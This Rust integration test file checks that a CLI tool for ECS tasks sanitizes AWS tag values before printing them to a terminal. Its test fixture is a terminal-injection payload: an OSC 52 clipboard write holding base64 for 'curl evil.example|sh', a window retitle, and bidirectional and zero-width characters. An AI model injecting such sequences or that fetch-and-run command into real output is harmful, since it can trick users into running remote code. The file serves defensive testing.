//! Text from AWS through the real binary: a tag set by someone else to an OSC 52 clipboard
//! write, a bidirectional override and a zero-width space reaches neither stdout nor stderr
//! raw, in tables, messages and errors; `--json` keeps the exact value.

mod support;

use std::process::Output;

use aws_sdk_ecs::types::Tag;
use serde_json::Value;

/// Sets the clipboard, retitles the window, then reverses the text after it.
const HOSTILE: &str =
    "evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]0;pwned\x07\u{202e}gnp.exe\u{200b}";
/// What a terminal shows of it.
const SHOWN: &str = "evil<U+202E>gnp.exe<U+200B>";

struct Env {
    dir: tempfile::TempDir,
    cluster: String,
}

impl Env {
    async fn new() -> Env {
        let cluster = support::unique("cli-untrusted");
        support::moto().cluster(&cluster, "ana").await;
        Env {
            dir: tempfile::tempdir().unwrap(),
            cluster,
        }
    }

    fn run(&self, owner: &str, args: &[&str]) -> Output {
        let moto = support::moto();
        let config =
            support::config_file(self.dir.path(), moto, &self.cluster, owner, &moto.endpoint);
        support::ondeck(&config, &self.dir.path().join(format!("state-{owner}")))
            .args(args)
            .output()
            .expect("run ondeck")
    }

    fn list_json(&self, owner: &str) -> (Vec<Value>, Output) {
        let out = self.run(owner, &["list", "--json", "--all-owners"]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let listed = serde_json::from_slice::<Value>(&out.stdout).expect("list --json is JSON");
        (listed.as_array().expect("an array").clone(), out)
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Raw bytes a terminal must never receive from AWS text: ESC, BEL, the override, the
/// zero-width space (the last two as UTF-8).
fn assert_clean(what: &str, bytes: &[u8]) {
    let output = text(bytes);
    for (name, needle) in [
        ("ESC", &b"\x1b"[..]),
        ("BEL", b"\x07"),
        ("U+202E", "\u{202e}".as_bytes()),
        ("U+200B", "\u{200b}".as_bytes()),
    ] {
        assert!(
            !bytes.windows(needle.len()).any(|window| window == needle),
            "{what}: raw {name} reached the terminal: {output:?}"
        );
    }
}

/// Launches `target` for ana, then rewrites its tags the way anyone with TagResource could:
/// the instance name and template become `HOSTILE`, and it expired five minutes ago.
async fn hostile_instance(env: &Env) -> String {
    let out = env.run(
        "ana",
        &["launch", "stack", "--name", "target", "--ttl", "1h"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (listed, _) = env.list_json("ana");
    let task_arn = listed[0]["tasks"][0]["task_arn"]
        .as_str()
        .expect("a task ARN")
        .to_string();
    let past = (chrono::Utc::now() - chrono::Duration::minutes(5)).to_rfc3339();
    let tag = |key: &str, value: &str| Tag::builder().key(key).value(value).build();
    support::moto()
        .ecs()
        .await
        .tag_resource()
        .resource_arn(&task_arn)
        .tags(tag("ondeck:instance", HOSTILE))
        .tags(tag("ondeck:template", HOSTILE))
        .tags(tag("ondeck:expires-at", &past))
        .send()
        .await
        .expect("TagResource");
    task_arn
}

#[tokio::test]
async fn tables_and_messages_show_hostile_tags_harmlessly() {
    let env = Env::new().await;
    hostile_instance(&env).await;

    for (owner, args) in [
        ("ana", &["list"][..]),
        ("bob", &["list", "--all-owners"]),
        ("ana", &["reap", "--dry-run"]),
    ] {
        let out = env.run(owner, args);
        let what = format!("{owner}: ondeck {}", args.join(" "));
        assert!(out.status.success(), "{what}: {}", text(&out.stderr));
        assert_clean(&what, &out.stdout);
        assert_clean(&what, &out.stderr);
        assert!(
            text(&out.stdout).contains(SHOWN),
            "{what} shows the name: {}",
            text(&out.stdout)
        );
    }

    // Columns are as wide as what is shown: the template starts under its header.
    let table = text(&env.run("ana", &["list"]).stdout);
    let mut lines = table.lines();
    let (header, row) = (lines.next().unwrap(), lines.next().unwrap());
    let template_column = SHOWN.len() + 2;
    assert_eq!(header.find("TEMPLATE"), Some(template_column), "{table}");
    assert!(row[template_column..].starts_with(SHOWN), "{table}");

    // A script may pass the name back; what ondeck says about it is clean too.
    let out = env.run("ana", &["destroy", HOSTILE, "--yes"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_clean("destroy", &out.stderr);
    assert_clean("destroy", &out.stdout);
    assert!(
        text(&out.stderr).contains(&format!("{SHOWN}: asked 1 task to stop")),
        "{}",
        text(&out.stderr)
    );
}

#[tokio::test]
async fn errors_quoting_aws_or_typed_text_are_clean() {
    let env = Env::new().await;
    let unknown = format!("nope{HOSTILE}");
    for args in [
        vec!["destroy", unknown.as_str(), "--yes"],
        vec!["extend", unknown.as_str(), "--by", "1h"],
    ] {
        let out = env.run("ana", &args);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
        assert_clean(args[0], &out.stderr);
        assert!(
            text(&out.stderr).contains(&format!("nope{SHOWN}")),
            "{}",
            text(&out.stderr)
        );
    }
}

#[tokio::test]
async fn json_keeps_the_exact_value_and_escapes_what_a_terminal_would_obey() {
    let env = Env::new().await;
    let task_arn = hostile_instance(&env).await;
    let (listed, out) = env.list_json("bob");
    assert_clean("list --json", &out.stdout);
    let instance = listed
        .iter()
        .find(|instance| instance["tasks"][0]["task_arn"] == task_arn.as_str())
        .expect("the hostile instance is listed");
    assert_eq!(instance["name"], HOSTILE, "the name, byte for byte");
    assert_eq!(instance["template"], HOSTILE);
    let raw = text(&out.stdout);
    assert!(raw.contains(r"\u001b]52;c;"), "ESC as a JSON escape: {raw}");
    assert!(raw.contains(r"\u202e") && raw.contains(r"\u200b"), "{raw}");
}
